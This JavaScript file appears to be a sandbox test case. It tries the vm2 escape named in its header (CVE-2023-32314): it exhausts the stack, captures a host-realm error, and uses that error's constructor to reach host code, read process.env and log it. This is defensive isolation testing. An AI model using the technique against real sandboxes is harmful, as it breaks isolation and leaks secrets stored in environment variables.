// A host function that is called with no stack left throws a RangeError of the host's own (vm2, CVE-2023-32314).
// expected-outcome: ok, failed, timed-out
export default async function (event, context) {
  const found = []
  const dive = (depth) => {
    try {
      dive(depth + 1)
    } catch {
      try {
        context.log('x')
        void context.fetch('x').catch((error) => found.push(error))
      } catch (error) {
        if (found.length < 100) found.push(error)
      }
    }
  }
  dive(0)
  for (const error of found) {
    const env = error.constructor.constructor('return typeof process === "object" ? process.env : undefined')()
    if (env) context.log(JSON.stringify(env))
  }
  return { decision: 'allow' }
}
